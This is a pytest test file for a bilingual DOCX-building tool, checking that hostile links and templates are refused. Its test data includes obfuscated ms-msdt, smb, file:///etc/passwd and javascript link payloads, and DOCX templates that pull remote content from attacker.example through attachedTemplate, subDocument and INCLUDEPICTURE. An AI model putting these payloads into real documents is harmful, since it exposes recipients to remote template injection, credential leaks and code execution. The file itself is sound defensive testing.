"""Hostile and broken input, round two (issue 13 §2): one section per class.

Each test fails on the code before the fix for the reason the issue gives
(a live link, a copied external target, a modified store, a traceback …)
and asserts what a user sees: exit 2 with one located line, nothing written,
or the file left as it was.
"""
from __future__ import annotations

import io
import re
import zipfile

import pytest

from conftest import EXAMPLE

HEAD = ("kind: joint-statement\nid: t\ndate: 2024-04-10\nparties: [doe, mext]\n"
        "title: {en: Title, ja: 表題}\nbody:\n")


def one_located_line(err: str, path) -> None:
    """Exactly one ``path:line:col: error: …`` line, no traceback."""
    assert err.count("\n") == 1, err
    assert re.match(rf"{re.escape(str(path))}:\d+:\d+: error: ", err), err
    assert "Traceback" not in err and "internal error" not in err


def docx_rels(data: bytes) -> str:
    """Every relationship file of a DOCX, joined."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "\n".join(z.read(n).decode() for n in z.namelist() if n.endswith(".rels"))


# ------------------------------------------------------------------ 1. link allow-list bypass


@pytest.mark.parametrize("link", [
    "[x](ms-msdt&colon;/id PCWDiagnostic)", "[y](smb&colon;//host/share)", "[z](//host/x)", r"[w](\\\\server\\share)",
    "[v](file&#58;///etc/passwd)", "[u](javascript&#x3A;alert(1))", "[t](relative/page)",
])
def test_link_targets_are_decoded_before_the_scheme_is_checked(tmp_path, cli, link):
    p = tmp_path / "doc.yaml"
    p.write_text(HEAD + f'  - id: p1\n    en: "see {link} here"\n    ja: x\n', encoding="utf-8")
    code, _, err = cli("check", p)
    assert code == 2, err
    one_located_line(err, p)
    assert "only http, https and mailto" in err
    out = tmp_path / "out"
    code, _, err = cli("build", p, "-o", out)
    assert code == 2 and not (out.exists() and any(out.iterdir()))


def test_allowed_links_still_become_hyperlinks(tmp_path, cli):
    p = tmp_path / "doc.yaml"
    p.write_text(HEAD.replace("[doe, mext]", "[doe, mext]") +
                 '  - id: p1\n    en: "see [a](https://x.org/a) and [m](mailto:a@b.org)"\n    ja: "[a](https://x.org/a)"\n',
                 encoding="utf-8")
    out = tmp_path / "out"
    code, _, err = cli("build", p, "-o", out, "--force")
    assert code == 0, err
    rels = "\n".join(docx_rels(f.read_bytes()) for f in out.glob("*.docx"))
    assert 'Target="https://x.org/a"' in rels and "mailto:a@b.org" in rels


# ------------------------------------------------------------------ 2. --template with external targets; 20. bad geometry


def _template(tmp_path, change) -> "Path":
    import docx

    from conftest import ROOT

    d = docx.Document(str(ROOT / "templates" / "reference.docx"))
    change(d)
    path = tmp_path / "template.docx"
    d.save(str(path))
    return path


OFFICE_RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _attached_template(d):
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    part = d.part._settings_part
    r_id = part.relate_to("http://attacker.example/t.dotm", OFFICE_RT + "attachedTemplate", is_external=True)
    part.element.append(parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{r_id}"/>'))


def _sub_document(d):

    d.part.relate_to("http://attacker.example/sub.docx", OFFICE_RT + "subDocument", is_external=True)


def _include_picture(d):
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    p = d.sections[0].header.paragraphs[0]._p
    for xml in ('<w:r {}><w:fldChar w:fldCharType="begin"/></w:r>',
                '<w:r {}><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://attacker.example/x.png" \\d </w:instrText></w:r>',
                '<w:r {}><w:fldChar w:fldCharType="end"/></w:r>'):
        p.append(parse_xml(xml.format(nsdecls("w"))))


def _margins_wider_than_page(d):
    s = d.sections[-1]
    s.left_margin = s.page_width


def _page_size_not_a_number(d):
    from docx.oxml.ns import qn

    d.element.body.find(qn("w:sectPr")).find(qn("w:pgSz")).set(qn("w:w"), "wide")


def _no_section_properties(d):
    from docx.oxml.ns import qn

    body = d.element.body
    body.remove(body.find(qn("w:sectPr")))


@pytest.mark.parametrize("change", [_attached_template, _sub_document, _include_picture,
                                    _margins_wider_than_page, _page_size_not_a_number, _no_section_properties])
def test_a_template_with_external_targets_or_no_page_is_refused(tmp_path, cli, change):
    bad = _template(tmp_path, change)
    out = tmp_path / "out"
    code, _, err = cli("build", EXAMPLE, "-o", out, "--template", bad)
    assert code == 2, err
    one_located_line(err, bad)
    assert err.startswith(f"{bad}:1:1: error: not a usable DOCX template (")
    assert not (out.exists() and any(out.iterdir()))


def test_a_plain_template_still_builds(tmp_path, cli):
    good = _template(tmp_path, lambda d: None)
    code, _, err = cli("build", EXAMPLE, "-o", tmp_path / "out", "--template", good)
    assert code == 0, err
    assert "attacker" not in "".join(docx_rels(f.read_bytes()) for f in (tmp_path / "out").glob("*.docx"))


# ------------------------------------------------------------------ 11. operating-system errors on output


def test_a_folder_in_the_way_of_one_output_leaves_every_old_output_as_it_was(tmp_path, cli):
    out = tmp_path / "out"
    out.mkdir()
    old = {layout: out / f"doe-mext-fusion-2024.{layout}.docx" for layout in ("en", "parallel")}
    for p in old.values():
        p.write_bytes(b"old")
    (out / "doe-mext-fusion-2024.ja.docx").mkdir()          # the second of three outputs cannot be written
    code, stdout, err = cli("build", EXAMPLE, "-o", out)
    assert code == 2, err
    one_located_line(err, out / "doe-mext-fusion-2024.ja.docx")
    assert all(p.read_bytes() == b"old" for p in old.values())
    assert sorted(p.name for p in out.iterdir()) == sorted([*(p.name for p in old.values()),
                                                            "doe-mext-fusion-2024.ja.docx"])


def test_an_output_name_too_long_is_one_located_line(tmp_path, cli):
    target = tmp_path / ("x" * 300 + ".tmx")
    code, _, err = cli("tm", "export", target)
    assert code == 2, err
    one_located_line(err, target)


@pytest.mark.parametrize("fmt", ["csv", "yaml"])
def test_glossary_export_into_a_missing_folder_is_one_line_not_usage_text(tmp_path, cli, fmt):
    target = tmp_path / "missing" / f"g.{fmt}"
    code, out, err = cli("glossary", "export", "-f", fmt, "-o", target)
    assert code == 2
    one_located_line(err, target)
    assert "Usage" not in out + err


# ------------------------------------------------------------------ 12. devices and FIFOs are never replaced


def test_an_export_over_a_fifo_is_refused_and_the_fifo_stays(tmp_path, cli):
    import os
    import stat

    fifo = tmp_path / "out.tmx"
    os.mkfifo(fifo)
    code, _, err = cli("tm", "export", fifo)
    assert code == 2, err
    one_located_line(err, fifo)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert [p.name for p in tmp_path.iterdir()] == ["out.tmx"]


# ------------------------------------------------------------------ 13. rewrites keep mode, symlinks, hard links

DEPRECATED = ("  - id: p1\n    en: The Ministry of Education, Sports, Science and Technology\n    ja: 文部科学省\n")


def _fixable(tmp_path):
    p = tmp_path / "doc.yaml"
    p.write_text(HEAD + DEPRECATED, encoding="utf-8")
    return p


def test_fix_keeps_the_files_mode(tmp_path, cli):
    import os

    p = _fixable(tmp_path)
    os.chmod(p, 0o600)
    code, _, err = cli("check", p, "--fix", "--select", "term-forbidden")
    assert code == 0 and err == "fixed 1 term(s)\n", err
    assert "Ministry of Education, Culture, Sports" in p.read_text(encoding="utf-8")
    assert os.stat(p).st_mode & 0o777 == 0o600


def test_a_rebuild_and_a_glossary_import_keep_the_mode(tmp_path, cli):
    import os

    out = tmp_path / "out"
    assert cli("build", EXAMPLE, "-o", out)[0] == 0
    target = out / "doe-mext-fusion-2024.en.docx"
    os.chmod(target, 0o640)
    assert cli("build", EXAMPLE, "-o", out)[0] == 0
    assert os.stat(target).st_mode & 0o777 == 0o640
    csv = tmp_path / "g.csv"
    assert cli("glossary", "export", "-f", "csv", "-o", csv)[0] == 0
    g = tmp_path / "g.yaml"
    g.write_text("old", encoding="utf-8")
    os.chmod(g, 0o600)
    code, _, err = cli("glossary", "import", csv, "-o", g)
    assert code == 0, err
    assert os.stat(g).st_mode & 0o777 == 0o600 and g.read_text(encoding="utf-8") != "old"


def test_fix_through_a_symlink_fixes_the_real_file_and_keeps_the_link(tmp_path, cli):
    import os

    real = _fixable(tmp_path)
    link = tmp_path / "link.yaml"
    link.symlink_to(real.name)
    code, _, err = cli("check", link, "--fix", "--select", "term-forbidden")
    assert code == 0, err
    assert os.path.islink(link) and os.readlink(link) == real.name
    assert "Ministry of Education, Culture, Sports" in real.read_text(encoding="utf-8")


def test_fix_on_a_file_with_two_hard_links_is_refused_and_both_names_keep_the_text(tmp_path, cli):
    import os

    p = _fixable(tmp_path)
    other = tmp_path / "other.yaml"
    os.link(p, other)
    before = p.read_bytes()
    code, _, err = cli("check", p, "--fix", "--select", "term-forbidden")
    assert code == 2
    one_located_line(err, p)
    assert "hard links" in err
    assert p.read_bytes() == before and os.path.samefile(p, other)


# ------------------------------------------------------------------ 19. duplicate document ids in one build


def test_two_documents_with_one_id_in_one_build_are_refused(tmp_path, cli):
    a, b = tmp_path / "a.yaml", tmp_path / "b.yaml"
    text = EXAMPLE.read_text(encoding="utf-8")
    a.write_text(text, encoding="utf-8")
    b.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    code, _, err = cli("build", a, b, "-o", out)
    assert code == 2, err
    one_located_line(err, b)
    assert not (out.exists() and any(out.iterdir()))
